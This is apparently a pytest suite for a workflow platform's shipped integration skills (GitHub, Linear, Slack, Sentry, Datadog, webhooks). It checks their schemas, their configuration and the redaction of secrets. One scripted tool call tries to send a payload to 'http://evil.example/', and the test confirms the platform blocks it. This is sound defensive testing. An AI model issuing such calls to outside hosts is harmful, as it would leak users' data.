"""The shipped skills: their schemas and tools, their use by nodes, and that a run keeps their secrets."""

import json
import os
from collections.abc import Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
from structlog.testing import capture_logs

from callboard.actors.tools.tool import ToolCallContext, ToolEnvironment, ToolFailed
from callboard.actors.tools.toolbox import open_toolbox
from callboard.bus import events as ev
from callboard.bus.effects import PythonTools
from callboard.bus.events import Environment
from callboard.languages.json_schema import violations
from callboard.languages.plan import Needs
from callboard.languages.skills.shipped import shipped_functions, shipped_ids, shipped_skill
from callboard.languages.skills.skill import aliases
from callboard.runtime.client.connection import open_connection
from callboard.runtime.settings.config import load
from callboard.service.worker.bootstrap import open_worker
from tests.support.service_api import TOKEN, Reply, ServiceApi, service_api
from tests.support.worker_processes import TENANT, say_start, until_end
from tests.support.workflows import admitted, document, run, run_elsewhere, scripted_skill

CATALOG = {
    "github": ("git", ["GITHUB_TOKEN"], ["GITHUB_API_URL"]),
    "linear": ("tasks", ["LINEAR_API_KEY"], ["LINEAR_API_URL"]),
    "slack": ("notification", [], ["SLACK_WEBHOOK_URL", "SLACK_BOT_TOKEN", "SLACK_API_URL"]),
    "sentry": ("observability", ["SENTRY_AUTH_TOKEN", "SENTRY_ORG"], ["SENTRY_BASE_URL"]),
    "datadog": ("observability", ["DD_API_KEY", "DD_APP_KEY"], ["DD_SITE", "DD_API_URL"]),
    "notification": (
        "notification",
        [],
        ["NOTIFICATION_WEBHOOK_URL", "NOTIFICATION_WEBHOOK_ALLOWED_HOSTS", "DISCORD_WEBHOOK_URL", "TEAMS_WEBHOOK_URL"],
    ),
}
"""Category, required and optional configuration; each value has the variable of the same name."""

REPO = "acme/shop"
INPUTS: dict[str, dict[str, dict[str, Any]]] = {
    "github": {
        "github_search_code": {"query": "q", "repo": REPO},
        "github_get_issue": {"repo": REPO, "number": 1},
        "github_search_issues": {"query": "q", "repo": REPO},
        "github_create_issue": {"repo": REPO, "title": "T", "body": "B", "labels": ["x"]},
        "github_add_comment": {"repo": REPO, "issue_number": 1, "body": "B"},
        "github_create_pr": {"repo": REPO, "title": "T", "body": "B", "head": "h", "base": "b", "labels": ["x"]},
        "github_list_recent_commits": {"repo": REPO, "branch": "b", "per_page": 5},
        "github_get_file": {"repo": REPO, "path": "a", "ref": "r"},
    },
    "linear": {
        "linear_create_issue": {"teamId": "t", "title": "T", "description": "D", "priority": 1, "labelIds": ["l"]},
        "linear_search_issues": {"query": "q", "limit": 3},
        "linear_add_comment": {"issueId": "i1", "body": "B"},
        "linear_get_issue": {"id": "i1"},
        "linear_list_comments": {"issueId": "i1", "limit": 3},
        "linear_list_teams": {},
        "linear_list_labels": {"teamId": "t"},
        "linear_update_issue": {"issueId": "i1", "title": "T", "description": "D", "stateId": "s", "priority": 1},
    },
    "slack": {
        "slack_send_message": {"text": "T", "channel": "C", "blocks": [{}]},
        "slack_send_thread_reply": {"channel": "C", "thread_ts": "1", "text": "T"},
    },
    "sentry": {
        "sentry_list_issues": {"project": "p", "query": "q"},
        "sentry_get_issue": {"issueId": "1"},
        "sentry_get_issue_events": {"issueId": "1"},
        "sentry_search_events": {"project": "p", "query": "q", "fields": ["title"]},
    },
    "datadog": {
        "datadog_search_logs": {"query": "q", "from": "now-2h", "to": "now", "limit": 3},
        "datadog_query_metrics": {"query": "q", "from": 1, "to": 2},
        "datadog_list_monitors": {"name": "n", "tags": "t"},
    },
    "notification": {
        "notify_webhook": {"payload": {"a": 1}},
        "notify_discord": {"content": "C", "embeds": [{"title": "T", "fields": [{"name": "n", "inline": True}]}]},
        "notify_teams": {"title": "T", "text": "T", "themeColor": "000000"},
    },
}
"""For every tool an input with all members of its schema, for `notify_webhook` without the address."""

REQUIRED = {
    "github_search_code": ["query", "repo"],
    "github_get_issue": ["repo", "number"],
    "github_search_issues": ["query"],
    "github_create_issue": ["repo", "title"],
    "github_add_comment": ["repo", "issue_number", "body"],
    "github_create_pr": ["repo", "title", "head"],
    "github_list_recent_commits": ["repo"],
    "github_get_file": ["repo", "path"],
    "linear_create_issue": ["teamId", "title"],
    "linear_search_issues": ["query"],
    "linear_add_comment": ["issueId", "body"],
    "linear_get_issue": ["id"],
    "linear_list_comments": ["issueId"],
    "linear_update_issue": ["issueId"],
    "slack_send_message": ["text"],
    "slack_send_thread_reply": ["channel", "thread_ts", "text"],
    "sentry_list_issues": ["project"],
    "sentry_get_issue": ["issueId"],
    "sentry_get_issue_events": ["issueId"],
    "sentry_search_events": ["project", "fields"],
    "datadog_search_logs": ["query"],
    "datadog_query_metrics": ["query", "from", "to"],
    "notify_webhook": ["payload"],
    "notify_teams": ["text"],
}


@pytest.fixture
def api() -> Iterator[ServiceApi]:
    with service_api() as served:
        yield served


# -- catalog -----------------------------------------------------------------------------------------------------------


def test_the_catalog_has_six_skills_with_their_configuration_and_tools() -> None:
    assert shipped_ids() == tuple(sorted(CATALOG))
    for name, (category, required, optional) in CATALOG.items():
        skill = shipped_skill(name)
        assert (skill.id, skill.category, skill.mcp) == (name, category, None)
        assert [key for key, field in skill.config.items() if field.required] == required
        assert [key for key, field in skill.config.items() if not field.required] == optional
        assert all(field.env == key for key, field in skill.config.items())
        assert [tool.name for tool in skill.tools] == list(INPUTS[name])
    with pytest.raises(KeyError):
        shipped_skill("../github")


def test_only_addresses_and_names_are_not_secret() -> None:
    fields = {key: field for name in shipped_ids() for key, field in shipped_skill(name).config.items()}
    public = {key for key, field in fields.items() if field.secret is False}
    addresses = {"GITHUB_API_URL", "LINEAR_API_URL", "SLACK_API_URL", "SENTRY_BASE_URL", "DD_API_URL"}
    assert public == {*addresses, "SENTRY_ORG", "DD_SITE", "NOTIFICATION_WEBHOOK_ALLOWED_HOSTS"}


def test_each_schema_accepts_its_members_and_requires_the_documented_ones() -> None:
    tools = {tool.name: tool.input_schema for name in shipped_ids() for tool in shipped_skill(name).tools}
    inputs = {name: given for of_skill in INPUTS.values() for name, given in of_skill.items()}
    assert len(inputs) == sum(len(shipped_skill(name).tools) for name in shipped_ids())
    for name, schema in tools.items():
        assert {*schema["properties"]} - {"url"} == {*inputs[name]}, name
        assert violations(schema, inputs[name]) == []
        assert schema.get("required", []) == REQUIRED.get(name, [])
        for member in schema["properties"].values():
            assert set(member) <= {"type", "description", "items"}


def test_tools_of_mcp_servers_are_aliases_of_shipped_tools() -> None:
    groups, contested = aliases([shipped_skill(name) for name in shipped_ids()])
    assert contested == []
    assert groups["create_pull_request"] == {"create_pull_request", "github_create_pr"}
    assert groups["linear_create_issue"] == {"save_issue", "linear_create_issue", "linear_update_issue"}
    assert "get_issue" not in groups


def test_each_file_is_the_skill_of_its_name() -> None:
    folder = files("callboard.languages.skills") / "shipped_skills"
    assert sorted(entry.name for entry in folder.iterdir()) == [f"{name}.yaml" for name in shipped_ids()]
    assert all(shipped_skill(name).id == name for name in shipped_ids())


# -- tools -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", CATALOG)
async def test_every_tool_answers_and_its_failure_has_no_secret(api: ServiceApi, name: str) -> None:
    skill = shipped_skill(name)
    functions = {tool.name: tool.python for tool in skill.tools if tool.python}
    config = {key: f"${{{key}}}" for key in skill.config if key in api.config}
    environment = ToolEnvironment(env={**os.environ, **api.config, "NO_PROXY": "127.0.0.1"})
    async with open_toolbox([PythonTools(functions, config)], environment) as toolbox:
        assert [spec.name for spec in toolbox.specs] == list(INPUTS[name])
        for number, (tool, given) in enumerate(INPUTS[name].items()):
            before = len(api.asked)
            context = ToolCallContext("r1", "a", f"key-{number}")
            # Arguments that a schema does not name are passed on, since services accept more of them.
            assert await toolbox.call(tool, {**given, "more": None}, context), tool
            assert len(api.asked) > before
        tool, given = next(iter(INPUTS[name].items()))
        api.instead = [Reply(404, {"message": f"no {TOKEN}"})]
        with capture_logs() as logged, pytest.raises(ToolFailed) as refused:
            await toolbox.call(tool, given, ToolCallContext("r1", "a", "key"))
        assert refused.value.failure.code == "tool.failed"
        assert "HTTP 404: no [secret]." in refused.value.failure.message.replace(" Not Found", "")
        assert TOKEN not in str(logged)


# -- use by nodes ------------------------------------------------------------------------------------------------------

USES_GITHUB = document({"a": {"skills": ["github"]}})
TOKEN_ENV = {"GITHUB_TOKEN": "t"}


def test_a_plan_has_only_the_listed_skills() -> None:
    plan = admitted(document({"a": {"skills": ["slack"]}}))
    assert [skill["id"] for skill in plan.options["shipped"]] == ["slack"]
    assert plan.needs.skills["shipped:slack"] == []
    assert plan.needs.environment == ["SLACK_BOT_TOKEN", "SLACK_WEBHOOK_URL"]
    assert plan.warnings == ()
    assert "shipped" not in admitted(document({"a": {}})).options


def test_the_needs_of_a_plan_are_required_and_secret_values() -> None:
    plan = admitted(USES_GITHUB)
    assert plan.needs == Needs(
        skills={"shipped:github": ["GITHUB_TOKEN"], "shipped:github.GITHUB_API_URL": ["GITHUB_API_URL"]},
        environment=["GITHUB_TOKEN"],
    )


def test_a_shipped_skill_offers_its_tools_if_the_worker_has_its_configuration() -> None:
    ran = run(USES_GITHUB, env=TOKEN_ENV)
    assert ran.tools() == list(INPUTS["github"])
    [[source]] = ran.toolboxes()
    assert source["config"] == {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}
    assert source["functions"]["github_get_issue"] == "callboard.actors.skills.github:get_issue"
    assert ran.warnings() == []


def test_a_run_continues_without_a_skill_whose_configuration_is_missing() -> None:
    lacking = run(USES_GITHUB, env={})
    assert (lacking.end.status, lacking.tools(), lacking.warnings()) == ("completed", [], ["SKILL_UNAVAILABLE"])
    emptied = run(USES_GITHUB, options={"config": {"GITHUB_TOKEN": ""}}, env=TOKEN_ENV)
    assert (emptied.end.status, emptied.tools(), emptied.warnings()) == ("completed", [], ["SKILL_UNAVAILABLE"])


def test_a_definition_in_the_start_replaces_a_shipped_skill() -> None:
    own = run(USES_GITHUB, options={"skills": [scripted_skill("github", "look")]}, env=TOKEN_ENV)
    assert own.tools() == ["look"]


def test_an_inline_skill_is_used_if_the_shipped_one_is_unavailable() -> None:
    raw = document({"a": {"skills": ["github"]}}, skills={"github": {"instruction": "Use the gh program."}})
    there = run(raw, env=TOKEN_ENV)
    assert there.tools() == list(INPUTS["github"])
    assert "gh program" not in there.text("a#1.1!turn.1")
    lacking = run(raw, env={})
    assert (lacking.tools(), lacking.warnings()) == ([], [])
    assert "gh program" in lacking.text("a#1.1!turn.1")


def test_38_a_skill_file_adds_an_instruction_to_a_shipped_skill() -> None:
    text = "---\nname: github\nconfig: {GH_HOST: {description: d}}\n---\nLabel every issue.\n"
    files = {".claude/skills/github/SKILL.md": text}
    there = {"shipped:github": True, "shipped:github.GITHUB_API_URL": False, "shipped:github.GH_HOST": True}
    environment = Environment(skills={**there, "github.GH_HOST": False})
    recorded = run(USES_GITHUB, files=files, env={**TOKEN_ENV, "GH_HOST": "github.example"})
    ran = run_elsewhere(recorded, environment)
    assert ran.tools() == list(INPUTS["github"])
    assert "Label every issue." in ran.text("a#1.1!turn.1")
    [[source]] = ran.toolboxes()
    assert source["config"] == {"GITHUB_TOKEN": "${GITHUB_TOKEN}", "GH_HOST": "${GH_HOST}"}
    lacking = run(USES_GITHUB, files=files, env={})
    assert lacking.tools() == []
    assert "Label every issue." in lacking.text("a#1.1!turn.1")


# -- a run -------------------------------------------------------------------------------------------------------------

WORKFLOW = document(
    {
        "look": {"skills": ["github", "sentry"], "tools": {"deny": ["github_create_pr"]}},
        "tell": {"skills": ["slack", "notification"]},
    },
    [("look", "tell")],
)


def call_tool(**calls: dict[str, Any]) -> dict[str, Any]:
    return {"tool_calls": [{"tool": tool, "input": given} for tool, given in calls.items()]}


SCRIPT: dict[str, Any] = {
    "turns": {
        "look": [
            call_tool(github_get_issue={"repo": REPO, "number": 42}),
            call_tool(github_create_issue={"repo": REPO, "title": "T"}),
            call_tool(github_get_issue={"repo": "nobody", "number": 1}),
            {"text": "looked"},
        ],
        "tell": [
            call_tool(slack_send_message={"text": "Hi.", "channel": "#ops"}),
            call_tool(notify_webhook={"payload": {"a": 1}, "url": "http://evil.example/"}),
            call_tool(notify_webhook={"payload": {"a": 1}}),
            {"text": "told"},
        ],
    }
}


async def test_a_run_with_shipped_skills_keeps_every_secret(api: ServiceApi, tmp_path: Path) -> None:
    api.instead = [
        Reply(body={"number": 42, "echo": f"Bearer {TOKEN}", "url": f"{api.url}/github/issues/42", TOKEN: [TOKEN]}),
        Reply(401, {"message": f"Bad credentials: {TOKEN}"}),
    ]
    config = {key: value for key, value in api.config.items() if key not in ("SENTRY_ORG", "NOTIFICATION_WEBHOOK_URL")}
    given = {"NOTIFICATION_WEBHOOK_URL": f"{api.url}/hook/{TOKEN}/{TOKEN}", "PATH": os.environ["PATH"]}
    settings = load({"data_dir": tmp_path / "data", "sync": "1s", "tenant": TENANT, "always_replay": True}, env={})
    message = {
        "definition": {"language": "workflow", "source": json.dumps(WORKFLOW)},
        "run_id": "with-skills",
        "model": "scripted",
        "script": SCRIPT,
    }
    async with open_connection(settings) as connection, open_worker(connection, env={**config, **given}):
        await say_start(connection.client, message)
        recorded = await until_end(connection.client, "with-skills")
    events = [item.event for item in recorded]
    payloads = [(event.type, json.loads(bytes(event.payload))) for event in events]
    assert TOKEN.encode() not in b"".join(item.data for item in recorded)

    [started] = [payload for kind, payload in payloads if kind == ev.RunStart.type]
    skills = started["environment"]["skills"]
    assert {name: there for name, there in skills.items() if "." not in name} == {
        "shipped:github": True,
        "shipped:notification": True,
        "shipped:sentry": False,
        "shipped:slack": True,
    }
    assert skills["shipped:notification.TEAMS_WEBHOOK_URL"] is True
    assert [skill["id"] for skill in started["options"]["shipped"]] == ["github", "notification", "sentry", "slack"]
    assert [p["code"] for kind, p in payloads if kind == ev.NodeWarning.type] == ["SKILL_UNAVAILABLE"]
    results = [payload for kind, payload in payloads if kind == ev.ToolResult.type]
    found, refused, unnamed, sent, elsewhere, notified = results
    assert found["output"]["echo"].startswith("Bearer [secret:")
    # An address is not a secret, so links of a service stay as they are.
    assert found["output"]["url"] == f"{api.url}/github/issues/42"
    assert "GITHUB_TOKEN is not accepted" in refused["error"]["message"]
    assert "is not a repository" in unnamed["error"]["message"]
    assert sent["output"]["ok"] is True
    assert "Nothing may be sent to evil.example" in elsewhere["error"]["message"]
    assert notified["output"] == {"ok": True, "status": 200}
    end = payloads[-1][1]
    assert (end["status"], end["output"]) == ("completed", {"summary": "told"})
    keys = {asked.headers["idempotency-key"] for asked in api.asked if asked.path.startswith("/hook")}
    assert len(keys) == 1
    assert all(len(key) > 20 for key in keys)


def test_the_shipped_functions_are_those_of_the_tools() -> None:
    tools = [tool for skill_id in shipped_ids() for tool in shipped_skill(skill_id).tools]
    assert shipped_functions() == tuple(tool.python for tool in tools if tool.python)
